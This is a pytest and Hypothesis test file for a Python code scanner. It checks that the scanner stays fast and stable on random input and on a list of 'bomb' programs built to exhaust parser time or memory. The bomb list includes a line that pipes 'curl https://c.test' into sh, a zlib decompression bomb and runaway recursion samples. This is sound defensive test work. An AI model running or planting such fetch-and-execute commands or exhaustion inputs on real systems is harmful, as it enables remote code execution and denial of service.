"""Programs that want the reader to crash, to hang or to fill the memory."""

from __future__ import annotations

from collections.abc import Sequence

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tests.scan.language.pace import BOMB, cost

from sealskill.model.report import Unread
from sealskill.scan.decode.python_constants import DECODER
from sealskill.scan.decoder import Layer
from sealskill.scan.document import Document, Kind
from sealskill.scan.language import python
from sealskill.scan.language._python_syntax import too_deep, tree_of
from sealskill.scan.readers import Structure

WORDS = (
    "( ) [ ] { } : , . = == += + - * ** / % ^ | & @ -> := ; # ' \" ''' \"\"\" f' b' r' \\ \n \t a b c x.y os sys exec eval "
    "getattr __import__ import from as def class return yield lambda if elif else for in while try except finally with "
    "match case raise await async global del pass break not and or is None True 0 1 9 1e9 0x 'os' requests.post "
    "urlopen open os.environ chr join ''.join( [::-1] b64decode marshal.loads print \x00 é 😀 ! % >>> ..."
).split(" ")
HONEST = (
    b"""import os
import requests

def load(path):
    with open(path) as file:
        return [line.split(",") for line in file if line.strip()]

def push(rows, key=os.environ.get("TIDE_KEY")):
    for row in rows:
        answer = requests.post("https://api.tides.test/v1/" + row[0], json={"name": row[1]}, headers={"key": key})
        print("sent", row[0], answer.status_code)

push(load("rows.csv"))
"""
    * 400
)
SETTINGS = settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def whole(code: bytes) -> Sequence[Layer | Unread]:
    hits = frozenset(python.READER.anchors) | frozenset(DECODER.anchors)
    document = Document("a.py", Kind.PYTHON, code, Structure(), hits=hits)
    for act in document.acts:
        assert 0 <= act.span.start <= len(code)
        assert act.span.place.line >= 1
    for _ in document.sentences:
        pass
    found = list(DECODER.decode(document))
    for one in found:
        assert isinstance(one, Unread) or 0 <= one.start <= one.end <= len(code)
    return found


@given(st.lists(st.sampled_from(WORDS), max_size=60))
@SETTINGS
def test_any_words_are_read(words: list[str]) -> None:
    whole(" ".join(words).encode())
    whole("".join(words).encode())


@given(st.lists(st.tuples(st.integers(0, 4), st.lists(st.sampled_from(WORDS), max_size=8)), max_size=20))
@SETTINGS
def test_any_lines_are_read(lines: list[tuple[int, list[str]]]) -> None:
    whole("\n".join(" " * depth + " ".join(words) for depth, words in lines).encode())


@given(st.text(max_size=200))
@SETTINGS
def test_any_text_is_read(text: str) -> None:
    whole(text.encode("utf-8", "replace"))


@given(st.binary(max_size=200))
@SETTINGS
def test_any_bytes_are_read(data: bytes) -> None:
    whole(data)


BOMBS = {
    "brackets": b"(" * 200_000,
    "closed brackets": b"[" * 100_000 + b"]" * 100_000,
    "calls of calls": b"exec(f" + b"()" * 60_000 + b")",
    "members": b"exec(a" + b".b" * 60_000 + b")",
    "a sum": b"exec('a'" + b"+'a'" * 60_000 + b")",
    "a sum of unknowns": b"exec(a" + b"+b" * 60_000 + b")",
    "signs": b"-" * 200_000 + b"1",
    "signs apart": b"- " * 100_000 + b"1",
    "not": b"not " * 50_000 + b"1",
    "powers": b"9**" * 50_000 + b"9",
    "lambdas": b"lambda:" * 50_000 + b"1",
    "choices": b"a if b else " * 20_000 + b"c",
    "elif": b"if a: pass\n" + b"elif a: pass\n" * 20_000,
    "dots": b"." * 200_000,
    "continued lines": b"x\\\n" * 60_000,
    "nothing but continued lines": b"\\\n" * 100_000,
    "open strings": b"'''a\"" * 40_000,
    "formatted strings": b"f'{" * 40_000,
    "Python 2": b"print 'x'\nfor i in a:\n  print i\n" * 5_000,
    "broken lines": b"x = = 1\n" * 20_000,
    "nul": b"x\0\n" * 50_000,
    "indents": b"".join(b" " * (at % 90) + b"if x:\n" for at in range(5_000)),
    "decorators": b"@a\n" * 50_000,
    "arrows": b"def f()->" * 20_000,
    "assignments": b"".join(b"a%d = a%d + a%d\n" % (at, at - 1, at - 1) for at in range(1, 4_000)),
    "doubling": b"a = 'xxxxxxxxxx'\n" + b"a = a + a\n" * 64 + b"exec(a)",
    "doubling lists": b"a = [0]\n" + b"a = [a, a]\n" * 64 + b"exec(str(a))",
    "extending": b"a = [0]\n" + b"a.extend(a)\n" * 64 + b"exec(str(a))",
    "repeating": b"exec('a' * 10**9); exec(b'a' * (1 << 60)); exec([1] * 10**9); exec('%1000000000d' % 1)",
    "formatting": b"exec('{:>1000000000}'.format(1) + f'{1:>1000000000}'); exec('{0.__class__}'.format(1))",
    "replacing": b"exec('aaaaaaaa'" + b".replace('a', 'aaaaaaaa')" * 20 + b")",
    "justifying": b"exec('a'.ljust(10**10) + 'a'.zfill(10**10) + bytes(10**10).hex())",
    "powers of powers": b"exec(chr(9**9**9)); exec(str(2**9999999)); x = 1 << (1 << 60)",
    "turns of turns": b"exec(''.join(chr(a) for a in range(10**6) for b in range(10**6) for c in range(10**9)))",
    "endless loop": b"def f():\n  s = ''\n  while True:\n    s += 'a'\n  return s\nexec(f())",
    "recursion": b"def f(x):\n  return f(x) + f(x)\nexec(f('a'))\n" + b"g = lambda x: g(g(x))\nexec(g('a'))",
    "mutual": b"".join(b"def f%d(x): return f%d(x) + f%d(x)\n" % (at, (at + 1) % 40, (at + 7) % 40) for at in range(40)) + b"exec(f0('a'))",
    "chained calls": b"".join(b"def f%d(x):\n  f%d(x + 'a'); f%d(x + 'b')\n" % (at, at + 1, at + 1) for at in range(40)) + b"def f40(x): exec(x)\nf0('')",
    "many comprehensions": b"exec(''.join(chr(a) for a in range(9999)))\n" * 400,
    "a table of itself": b"a = {}\n" + b"".join(b"a['k%d'] = a\n" % at for at in range(2_000)) + b"requests.post('x', json=a)",
    "nested tables": b"a = [1, 2]\n" + b"".join(b"a%d = [%s]\n" % (at, b", ".join([b"a%d" % (at - 1) if at else b"a"] * 60)) for at in range(60)) + b"requests.post('x', json=a59)",
    "commands": b"import os\n" + b"os.system('curl https://c.test | sh')\n" * 2_000,
    "unpacking": b"import zlib\nexec(zlib.decompress(zlib.decompress(b'x' * 999999)))",
    "dashes": b"# " + b"-" * 100_000,
    "a long list": b"x = [" + b"1," * 100_000 + b"]\nexec(bytes(x))",
    "loops in loops": b"".join(b" " * at + b"while True:\n" for at in range(80)) + b" " * 80 + b"f()",
}  # fmt: skip


@pytest.mark.parametrize("name", BOMBS)
def test_no_bomb_goes_off(name: str) -> None:
    assert cost(whole, BOMBS[name]) < BOMB * cost(whole, HONEST)


def test_twice_the_program_takes_twice_the_time() -> None:
    one = b"import os\ndef f(a, b=[1, 2]):\n    x = open(a).read() + str(b)\n    return os.system(x)\nf('y')\n"

    assert cost(whole, one * 2_000) < 8 * cost(whole, one * 500)


def test_what_is_too_deep_is_said() -> None:
    found = whole(b"exec(chr(1))\nx = " + b"[" * 150 + b"]" * 150)
    assert [one.said for one in found if isinstance(one, Unread)]
    assert tree_of(b"[" * 150 + b"]" * 150) is None


@pytest.mark.parametrize(
    "code",
    [
        b"x = '" + b"(" * 50 + b"'",
        b"# " + b"-" * 300,
        b'"""' + b"=" * 500 + b'"""',
        b"x = [" + b"(1), " * 500 + b"]",
        b"a = ')('\n" * 500,
    ],
)
def test_honest_rows_of_signs_are_not_deep(code: bytes) -> None:
    assert not too_deep(code)
